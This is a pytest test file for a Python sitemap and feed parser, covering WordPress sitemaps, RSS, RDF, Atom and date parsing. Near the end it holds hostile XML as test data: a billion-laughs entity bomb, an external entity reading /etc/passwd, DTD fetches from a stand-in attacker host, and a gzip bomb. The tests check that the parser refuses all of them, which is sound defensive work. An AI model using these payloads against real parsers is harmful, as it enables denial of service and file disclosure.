"""Reading sitemaps and feeds (sendgraph.plugin.feeds): every shape WordPress and its plugins
publish, and hostile XML refused by name, never expanded or fetched."""

from __future__ import annotations

import contextlib
import gzip
import time
from datetime import UTC, date, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sendgraph.plugin.feeds import MAX_UNPACKED, Feed, FeedItem, parse_date, read_feed
from sendgraph.plugin.pages import BadPayload

URL = "https://blog.example.org/wp-sitemap.xml"
SM = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def _utc(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=UTC)


# -- sitemaps ------------------------------------------------------------------------------

def test_core_sitemap_index_with_its_stylesheet_instruction() -> None:
    data = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<?xml-stylesheet type="text/xsl" href="https://blog.example.org/wp-sitemap-index.xsl" ?>\n'
        f"<sitemapindex {SM}>"
        "<sitemap><loc>https://blog.example.org/wp-sitemap-posts-post-1.xml</loc></sitemap>"
        "<sitemap><loc> https://blog.example.org/wp-sitemap-users-1.xml </loc>"
        "<lastmod>2024-02-01</lastmod></sitemap></sitemapindex>").encode()
    feed = read_feed(data, URL)
    assert feed.kind == "sitemapindex"
    assert feed.items == (
        FeedItem("https://blog.example.org/wp-sitemap-posts-post-1.xml"),
        FeedItem("https://blog.example.org/wp-sitemap-users-1.xml", _utc(2024, 2, 1)))


def test_urlset_dates_in_every_w3c_precision_and_relative_locs() -> None:
    data = (f'<urlset {SM} xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">'
            "<url><loc>https://blog.example.org/a/</loc><lastmod>2024-03-06T12:30:00+01:00"
            "</lastmod><image:image><image:loc>https://blog.example.org/a.png</image:loc>"
            "</image:image></url>"
            "<url><loc>/b/</loc><lastmod>2023-07</lastmod></url>"
            "<url><loc>https://blog.example.org/c/</loc><lastmod>2021</lastmod></url>"
            "<url><loc>https://blog.example.org/d/</loc><lastmod>soon</lastmod></url>"
            "<url><loc>mailto:someone@example.org</loc></url>"
            "</urlset>").encode()
    feed = read_feed(data, URL)
    assert feed.kind == "urlset"
    assert feed.items == (
        FeedItem("https://blog.example.org/a/", _utc(2024, 3, 6, 11, 30)),
        FeedItem("https://blog.example.org/b/", _utc(2023, 7, 1)),
        FeedItem("https://blog.example.org/c/", _utc(2021, 1, 1)),
        FeedItem("https://blog.example.org/d/", None),  # an unreadable date is no date
    )  # and a mailto: "URL" is no page to fetch


def test_sitemap_without_namespace_and_gzipped() -> None:
    plain = b"<urlset><url><loc>https://blog.example.org/x/</loc></url></urlset>"
    assert read_feed(gzip.compress(plain), URL + ".gz").items == (
        FeedItem("https://blog.example.org/x/"),)


def test_sitemap_entry_without_loc_is_a_bad_payload() -> None:
    data = f"<urlset {SM}><url><lastmod>2024-01-01</lastmod></url></urlset>".encode()
    with pytest.raises(BadPayload, match=r"wp-sitemap\.xml: <url> number 1 has no <loc>"):
        read_feed(data, URL)


# -- feeds ---------------------------------------------------------------------------------

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel><title>A SEND blog</title>
<atom:link href="https://blog.example.org/feed/" rel="self" type="application/rss+xml" />
<link>https://blog.example.org</link>
<item><title>Appeals &amp; tribunals</title>
  <atom:link href="https://elsewhere.example.org/" rel="related" />
  <link>https://blog.example.org/2024/02/appeals/</link>
  <dc:creator><![CDATA[Matt]]></dc:creator>
  <pubDate>Tue, 20 Feb 2024 08:15:00 +0000</pubDate>
  <guid isPermaLink="false">https://blog.example.org/?p=102</guid>
  <content:encoded><![CDATA[<p>Appeals rose <a href="x">again</a>.</p>]]></content:encoded></item>
<item><title>Only a permalink guid</title>
  <guid>https://blog.example.org/2024/01/guid-only/</guid>
  <dc:date>2024-01-12T19:40:00Z</dc:date></item>
<item><title>A relative link and a bad date</title><link>/2023/11/relative/</link>
  <pubDate>the day before yesterday</pubDate></item>
<item><title>No link at all</title><guid isPermaLink="false">tag:blog,2023:9</guid></item>
</channel></rss>"""


def test_rss2_items_with_dates_links_and_guid_permalinks() -> None:
    feed = read_feed(RSS.encode(), "https://blog.example.org/feed/")
    assert feed.kind == "rss"
    assert feed.items == (
        FeedItem("https://blog.example.org/2024/02/appeals/", _utc(2024, 2, 20, 8, 15),
                 "Appeals & tribunals"),
        FeedItem("https://blog.example.org/2024/01/guid-only/", _utc(2024, 1, 12, 19, 40),
                 "Only a permalink guid"),
        FeedItem("https://blog.example.org/2023/11/relative/", None,
                 "A relative link and a bad date"),
    )


def test_rss1_rdf_feed() -> None:
    data = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
        xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
      <channel rdf:about="https://blog.example.org/"><title>Old feed</title></channel>
      <item rdf:about="https://blog.example.org/p/1"><title>One</title>
        <link>https://blog.example.org/p/1</link><dc:date>2019-10-23</dc:date></item>
    </rdf:RDF>"""
    feed = read_feed(data, "https://blog.example.org/feed/rdf/")
    assert (feed.kind, feed.items) == ("rss", (
        FeedItem("https://blog.example.org/p/1", _utc(2019, 10, 23), "One"),))


def test_atom_entries_prefer_the_alternate_link_and_published_date() -> None:
    data = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">
      <title>Atom blog</title><link rel="self" href="https://blog.example.org/feed/atom/"/>
      <entry><title type="html">First</title>
        <link rel="replies" href="https://blog.example.org/first/#comments"/>
        <link rel="alternate" type="text/html" href="https://blog.example.org/first/"/>
        <published>2024-03-05T09:00:00Z</published><updated>2024-03-06T12:30:00Z</updated>
      </entry>
      <entry><title>Second</title><link href="/second/"/>
        <updated>2024-01-01T00:00:00-05:00</updated></entry>
      <entry><title>No link</title></entry>
    </feed>"""
    feed = read_feed(data, "https://blog.example.org/feed/atom/")
    assert feed.kind == "atom"
    assert feed.items == (
        FeedItem("https://blog.example.org/first/", _utc(2024, 3, 5, 9), "First"),
        FeedItem("https://blog.example.org/second/", _utc(2024, 1, 1, 5), "Second"),
    )


def test_since_keeps_items_on_or_after_the_day_and_undated_ones() -> None:
    feed = Feed(URL, "urlset", (
        FeedItem("https://b.example/old", _utc(2023, 12, 31, 23, 59)),
        FeedItem("https://b.example/day", _utc(2024, 1, 1, 0, 0)),
        FeedItem("https://b.example/undated"),
    ))
    assert [i.url for i in feed.since(date(2024, 1, 1))] == [
        "https://b.example/day", "https://b.example/undated"]
    assert len(feed.since(None)) == 3


@pytest.mark.parametrize(("text", "expected"), [
    ("2024-03-05", _utc(2024, 3, 5)),
    ("2024-03-05T10:00:00+01:00", _utc(2024, 3, 5, 9)),
    ("2024-03-05T10:00:00Z", _utc(2024, 3, 5, 10)),
    ("Tue, 05 Mar 2024 10:00:00 GMT", _utc(2024, 3, 5, 10)),
    ("Tue, 05 Mar 2024 10:00:00 +0100", _utc(2024, 3, 5, 9)),
    ("2024-02", _utc(2024, 2, 1)),
    ("2024-13", None), ("", None), ("yesterday", None), (None, None),
    ("0001-01-01T00:00:00+05:00", None),  # before year 1 in UTC
])
def test_parse_date(text: str | None, expected: datetime | None) -> None:
    assert parse_date(text) == expected


# -- refusing what is not a sitemap or feed --------------------------------------------------

@pytest.mark.parametrize(("data", "reason"), [
    (b"", "not well-formed XML"),
    (b"<!DOCTYPE html><html><body><p>Page not found</p></body></html>",
     "the root element is <html>"),
    (b"<!DOCTYPE html><html><body><p>Page <br> not found</p></body></html>",
     "not well-formed XML"),
    (b"<html><body><p>Soft 404</p></body></html>", "the root element is <html>"),
    (b'{"code": "rest_no_route"}', "not well-formed XML"),
    (b"<urlset><url><loc>https://x.example/</loc></url>", "not well-formed XML"),  # cut short
    (b"\x1f\x8b\x08\x00garbage", "broken gzip data"),
    (b"<a>" * 300 + b"</a>" * 300, "not well-formed XML"),  # deeper than libxml2 allows
])
def test_not_a_sitemap_or_feed_is_a_bad_payload_naming_the_url(data: bytes, reason: str
                                                               ) -> None:
    with pytest.raises(BadPayload) as err:
        read_feed(data, URL)
    assert str(err.value).startswith(URL + ": ") and reason in str(err.value)
    assert err.value.url == URL


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&lol9;</loc></url></urlset>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&secret;</title>
<link>https://blog.example.org/x/</link></item></channel></rss>"""
EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://attacker.example.net/evil.dtd"> %remote;]>
<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="https://b.example/"/></entry></feed>"""
UNDECLARED_IN_EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example.net/rss.dtd">
<rss><channel><item><title>&fromthedtd;</title><link>https://b.example/</link></item>
</channel></rss>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_PARAMETER_ENTITY,
                                  UNDECLARED_IN_EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "external-parameter-entity",
                              "entity-from-an-external-dtd"])
def test_xml_bombs_and_external_entities_are_refused_by_name(data: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(BadPayload) as err:
        read_feed(data, URL)
    assert time.monotonic() - started < 1.0  # refused, not expanded
    message = str(err.value)
    assert message.startswith(URL + ": ") and "entit" in message, message
    assert "root:" not in message  # nothing of /etc/passwd was read into the message


def test_billion_laughs_in_utf16_is_refused_too() -> None:
    with pytest.raises(BadPayload, match="entit"):
        read_feed(BILLION_LAUGHS.decode().replace('version="1.0"?>', 'version="1.0" '
                                                  'encoding="UTF-16"?>', 1).encode("utf-16"),
                  URL)


def test_a_harmless_doctype_without_entities_is_read() -> None:
    data = (b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS '
            b'0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
            b"<rss version=\"0.91\"><channel><item><title>Old</title>"
            b"<link>https://b.example/old/</link></item></channel></rss>")
    assert read_feed(data, URL).items == (FeedItem("https://b.example/old/", None, "Old"),)


def test_gzip_bomb_is_refused_at_the_sitemap_limit() -> None:
    body = b"<urlset>" + b" " * (MAX_UNPACKED + 10) + b"</urlset>"
    with pytest.raises(BadPayload, match="unpacks to more than"):
        read_feed(gzip.compress(body, compresslevel=1), URL)


# -- property: hostile bytes never raise anything but BadPayload ------------------------------

_PIECES = st.sampled_from([
    "<urlset>", "</urlset>", "<sitemapindex>", "</sitemapindex>", "<url>", "</url>",
    "<sitemap>", "</sitemap>", "<loc>", "</loc>", "<lastmod>", "</lastmod>",
    "<rss>", "</rss>", "<channel>", "</channel>", "<item>", "</item>", "<link>", "</link>",
    "<guid isPermaLink='true'>", "</guid>", "<pubDate>", "</pubDate>", "<feed>", "</feed>",
    "<entry>", "</entry>", "<link href='x'/>", "<link rel='alternate' href='//h/p'/>",
    "<published>", "</published>", "<updated>", "</updated>", "<title>", "</title>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>", "&a;", "&amp;", "<![CDATA[", "]]>", "<!-- c -->",
    "<?pi x?>", '<?xml version="1.0"?>', "https://h.example/p", "http://[::1", "http://h:99999/",
    "2024-01-01", "Tue, 05 Mar 2024 10:00:00 GMT", "9999-12-31T23:59:59-23:59", "x", " ",
    "\u00e9", "\x00", "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>",
    "</rdf:RDF>", "<a:loc xmlns:a='urn:x'>", "</a:loc>",
])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, max_size=40).map("".join), st.sampled_from(["utf-8", "utf-16",
                                                                       "latin-1"]))
def test_xmlish_input_never_raises_anything_but_bad_payload(text: str, encoding: str) -> None:
    data = text.encode(encoding, errors="replace")
    try:
        feed = read_feed(data, URL)
    except BadPayload as exc:
        assert exc.url == URL
        return
    assert feed.kind in ("sitemapindex", "urlset", "rss", "atom")
    for item in feed.items:
        assert item.url.startswith(("http://", "https://"))
        assert item.date is None or item.date.tzinfo is not None


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_never_raise_anything_but_bad_payload(data: bytes) -> None:
    with contextlib.suppress(BadPayload):
        read_feed(data, URL)
    with contextlib.suppress(BadPayload):
        read_feed(gzip.compress(data), URL)


@given(st.text(max_size=60))
def test_parse_date_never_raises(text: str) -> None:
    result = parse_date(text)
    assert result is None or result.tzinfo is not None
